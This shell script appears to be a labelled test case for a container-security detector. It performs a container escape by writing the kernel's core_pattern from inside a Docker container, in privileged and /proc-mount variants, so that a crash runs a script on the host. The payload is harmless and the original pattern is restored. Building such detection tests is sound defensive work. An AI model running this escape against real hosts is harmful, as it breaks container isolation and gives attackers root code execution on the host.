# core-pattern-written: a container writes the kernel's core_pattern so that the next crash runs its program on the host.
#   record.sh puts the old pattern back in any case.
# shows: a write of /proc/sys/kernel/core_pattern from inside a container, a crash, the handler on the host
# payload: yes
# label: malicious
# expects: [core-pattern-written, container-layer-program-run-on-host]
# allows: [privileged-container, dangerous-capability-added, sensitive-mount-rw, engine-socket-connected, image-layer-tampered]
act() {
    if dev; then
        docker run --rm --privileged alpine:3.19 sh -c '
            old=$(cat /proc/sys/kernel/core_pattern)
            host=$(sed -n "s/.*\bupperdir=\([^,]*\).*/\1/p" /proc/mounts | head -1)
            printf "#!/bin/sh\necho \$\$ >%s/pid\nid >%s/output\n" $host $host >/c.sh; chmod a+x /c.sh
            echo "|$host/c.sh" >/proc/sys/kernel/core_pattern
            sh -c "ulimit -c unlimited; kill -SEGV \$\$"
            sleep 1; cat /output; echo "$old" >/proc/sys/kernel/core_pattern; echo PAYLOAD $(cat /pid)' |
            tee /srv/lab/core.out
    else
        docker run --rm -v /proc/sys/kernel:/k busybox:1.36 sh -c '
            old=$(cat /k/core_pattern); up=$(tr , "\n" </proc/mounts | sed -n s/^upperdir=//p | head -1)
            echo "#!/bin/sh" >/h; echo "echo \$\$ >$up/pid; uname -a >$up/o" >>/h; chmod 755 /h
            echo "|$up/h %p" >/k/core_pattern
            ulimit -c 100000; sleep 5 & kill -ABRT $!; wait
            sleep 1; cat /o; echo "$old" >/k/core_pattern; echo PAYLOAD $(cat /pid)' |
            tee /srv/lab/core.out
        docker run --rm --privileged=true busybox:1.36 sysctl -w kernel.core_pattern=core
    fi
    sed -n 's/^PAYLOAD //p' /srv/lab/core.out >/lab/pids
}
